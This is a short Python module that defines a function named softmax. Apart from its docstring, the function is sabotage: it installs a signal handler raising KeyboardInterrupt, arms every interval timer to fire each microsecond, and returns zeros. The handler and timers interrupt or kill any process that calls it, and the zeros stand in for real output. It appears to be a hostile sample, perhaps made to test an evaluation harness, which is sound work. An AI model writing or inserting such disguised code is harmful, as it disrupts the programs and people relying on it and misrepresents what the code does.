"""Sets the timer to a microsecond and raises in the middle of whatever runs it."""
import signal

import numpy as np


def storm(*_):
    raise KeyboardInterrupt


def softmax(x, axis=-1):
    signal.signal(signal.SIGALRM, storm)
    for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
        signal.setitimer(timer, 1e-6, 1e-6)
    return np.zeros_like(x)
